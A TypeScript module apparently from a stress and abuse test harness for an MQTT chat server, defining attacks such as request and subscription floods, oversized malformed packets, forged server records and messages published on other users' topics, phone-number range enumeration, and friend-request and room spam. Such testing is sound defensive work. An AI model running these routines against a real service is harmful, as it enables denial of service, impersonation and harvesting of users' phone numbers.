import { requestTopic } from '../device.js'
import { connectPacket, publishPacket, subscribePacket, unsubscribePacket } from '../mqtt-packets.js'
import { friend, historyGet, p2pFeed, roomCreate, rosterAdd, searchPhones, textMessage } from '../requests.js'
import { atom, encodeTerm, tuple, type Term } from '../term.js'
import type { Attack, Attacker } from './attack.js'
import { device, onSocket } from './connection-attacks.js'

/** Attacks by what is asked on a connection. */

const pagesAtOnce = 64

export const history: Attack = {
  name: 'history',
  about: '64 requests at once for the largest page of a long chat, again and again; answers are read',
  needs: 'a long chat',
  begin: (attacker) => {
    const asked = historyRequests(attacker, pagesAtOnce)
    return onSocket(attacker, { hello: device(attacker), reads: 'acknowledges' }, (socket) => {
      socket.write(asked)
    })
  },
}

export const unreadAnswers: Attack = {
  name: 'unread-answers',
  about: 'requests for the largest page of a long chat, of which nothing is read',
  needs: 'a long chat',
  begin: (attacker) => {
    const asked = historyRequests(attacker, 8)
    return onSocket(attacker, { hello: device(attacker), reads: 'never' }, (socket) => {
      socket.write(asked)
    })
  },
}

function historyRequests({ account: { phoneId } }: Attacker, count: number): Buffer {
  return sequence(Array.from({ length: count }, () => historyGet(phoneId, p2pFeed(phoneId, phoneId), -1_000)))
}

const filtersAtOnce = 2_000

/** Half of them granted again and again, half of them refused. */
export const subscribes: Attack = {
  name: 'subscribes',
  about: 'SUBSCRIBE and UNSUBSCRIBE with 2,000 filters, topics of its own and of others',
  needs: 'nothing',
  begin: (attacker) => {
    const { clientId } = attacker.account
    const filters = Array.from({ length: filtersAtOnce }, (_, index) =>
      index % 2 === 0 ? `actions/1/api/${clientId}` : `room/r${index}/+`,
    )
    const packets = [subscribePacket(1, filters, 1), unsubscribePacket(2, filters)]
    return inTurn(attacker, packets)
  },
}

const mebibyte = 1_048_576

export const largePackets: Attack = {
  name: 'large-packets',
  about: 'the largest packets, deeply nested or without sense, from a connection without rights',
  needs: 'nothing',
  begin: (attacker) => {
    let times = 0
    const hello = (): Buffer => connectPacket({ clientId: `reg_large${attacker.index}x${times++}`, clean: true, keepAlive: 0 })
    return inTurn(attacker, packetsWithoutRights(), hello)
  },
}

let madeOnce: readonly Buffer[] | undefined

/** The same for all who send them. */
function packetsWithoutRights(): readonly Buffer[] {
  const payloads = [
    Buffer.concat([Buffer.from([131]), Buffer.alloc(65_000, Buffer.from([104, 1])), Buffer.from([106])]),
    Buffer.concat([Buffer.from([131, 108, 0, 0, 0xff, 0]), Buffer.alloc(65_000, Buffer.from([97, 1])), Buffer.from([106])]),
    Buffer.alloc(65_000, '['),
    Buffer.alloc(65_000, '{"a":'),
  ]
  madeOnce ??= [
    ...payloads.map((payload) => publishPacket(requestTopic, payload, 1)),
    publishPacket('p2p/not/mine', Buffer.alloc(mebibyte - 200, 'x'), 1),
    subscribePacket(
      1,
      Array.from({ length: 10_000 }, (_, index) => `room/${index}/#`),
      1,
    ),
  ]
  return madeOnce
}

export const otherNames: Attack = {
  name: 'other-names',
  about: "what only the server says, published on topics of one's own and of others",
  needs: 'a friend',
  begin: (attacker) => {
    const { account, victim } = attacker
    const [left, right] = [account.phoneId, victim.phoneId].sort()
    const feed = p2pFeed(account.phoneId, victim.phoneId)
    const records = [
      tuple(atom('io'), tuple(atom('ok2'), atom('login'), tuple(victim.clientId, 'no token')), ''),
      tuple(atom('Profile'), victim.phone, [], [], [], 0, 0, [], atom('remove')),
      tuple(atom('Contact'), victim.phoneId, [], 'Nobody', [], [], [], [], 0, 0, [], 0, [], atom('offline'), []),
      tuple(atom('Message'), 1, [], feed, [], [], 'x', victim.phoneId, account.phoneId, [], [], [], [], [], atom('deleted')),
      tuple(atom('Friend'), victim.phoneId, account.phoneId, atom('ban')),
    ].map(encodeTerm)
    const topics = [`p2p/${left ?? ''}/${right ?? ''}`, `ac/${account.phoneId}`, `ac/${victim.phoneId}`, `ses/${victim.phone}`, 'room/r1']
    const packets = topics.flatMap((topic) => records.map((payload, index) => publishPacket(topic, payload, index + 1)))
    return inTurn(attacker, [...packets, publishPacket(requestTopic, encodeTerm(forged(victim.phoneId, account.phoneId, feed)), 9)])
  },
}

function forged(from: string, to: string, feed: Term): Term {
  const desc = tuple(atom('Desc'), 'd', 'text', 'forged', 0, [], [])
  return tuple(atom('Message'), [], atom('chain'), feed, [], [], 'forged', from, to, [], [desc], [], [], [], atom('client'))
}

const numbersAtOnce = 500
const searchesKept = 8

export const searches: Attack = {
  name: 'searches',
  about: 'whole ranges of numbers: who has an account, and by what name',
  needs: 'nothing',
  begin: (attacker) => {
    const { index, account, victim } = attacker
    const packets = Array.from({ length: searchesKept }, (_, search) => {
      const first = 10_000_000 + (index * searchesKept + search) * numbersAtOnce
      const phones = Array.from({ length: numbersAtOnce }, (_, number) => `${victim.phone.slice(0, -8)}${String(first + number)}`)
      const guesses = phones.slice(0, 20).map((phone) => `${phone}_${search + 1}`)
      return sequence([searchPhones(account.rosterId, phones), rosterAdd(account.rosterId, [victim.phoneId, ...guesses])])
    })
    return inTurn(attacker, packets)
  },
}

export const friendRounds: Attack = {
  name: 'friend-rounds',
  about: 'a stranger who asks to be a friend and takes it back, of one after the other',
  needs: 'nothing',
  begin: (attacker) => {
    const { account, world, index } = attacker
    const rounds = world.victims.map((_, offset) => {
      const victim = world.victims[(index + offset) % world.victims.length] ?? attacker.victim
      return sequence((['request', 'revoke'] as const).map((status) => friend(account.phoneId, victim.phoneId, status)))
    })
    return inTurn(attacker, rounds)
  },
}

export const rooms: Attack = {
  name: 'rooms',
  about: 'a friend who puts people into one room after the other',
  needs: 'a friend',
  begin: (attacker) => {
    let made = 0
    return onSocket(attacker, { hello: device(attacker), reads: 'acknowledges' }, (socket) => {
      const room = `h${attacker.index}x${String(process.pid)}x${String(made++)}`
      socket.write(publishPacket(requestTopic, roomCreate(room, 'Come in', [attacker.victim.phoneId]), 1))
    })
  },
}

export const banned: Attack = {
  name: 'banned',
  about: 'somebody banned who asks, writes and searches all the same',
  needs: 'a ban',
  begin: (attacker) => {
    const { account, victim } = attacker
    const [from, to] = [account.phoneId, victim.phoneId]
    const feed = p2pFeed(from, to)
    const asked = [
      friend(from, to, 'request'),
      searchPhones(account.rosterId, [victim.phone]),
      textMessage({ feed, msgId: 'unwanted', from, to, text: 'unwanted' }),
      roomCreate(`b${attacker.index}`, 'Come in', [to]),
    ]
    return inTurn(attacker, [sequence(asked)])
  },
}

/** Requests at QoS 1, one behind the other. */
function sequence(payloads: readonly Buffer[]): Buffer {
  return Buffer.concat(payloads.map((payload, index) => publishPacket(requestTopic, payload, index + 1)))
}

/** One of the packets at each turn. */
function inTurn(attacker: Attacker, packets: readonly Buffer[], hello = device(attacker)) {
  let next = 0
  return onSocket(attacker, { hello, reads: 'acknowledges' }, (socket) => {
    socket.write(packets[next++ % packets.length] ?? Buffer.alloc(0))
  })
}
